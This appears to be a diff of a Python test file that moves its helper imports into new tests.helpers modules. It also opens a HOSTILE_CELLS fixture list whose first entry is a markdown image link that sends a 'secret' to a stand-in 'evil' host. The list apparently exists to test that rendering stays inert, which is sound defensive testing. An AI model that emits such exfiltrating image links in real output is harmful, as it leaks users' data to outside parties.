@@ -11,10 +11,10 @@ from lumiere.db import session_scope
 from lumiere.models import User
 from lumiere.services.ask import run_sql
 from tests.api.conftest import client, make_user  # noqa: F401 - the API fixtures, requested by name below
-from tests.api.test_charts_api import upload
 from tests.fake_llm import FakeLlm
-from tests.unit.charts.test_charts import assert_inert as assert_figure_inert
-from tests.unit.test_markdown_safety import RENDER, assert_inert
+from tests.helpers.api import upload
+from tests.helpers.charts import assert_inert as assert_figure_inert
+from tests.helpers.markdown import RENDER, assert_inert
 
 HOSTILE_CELLS = [
     "![x](http://evil/?q=secret)",
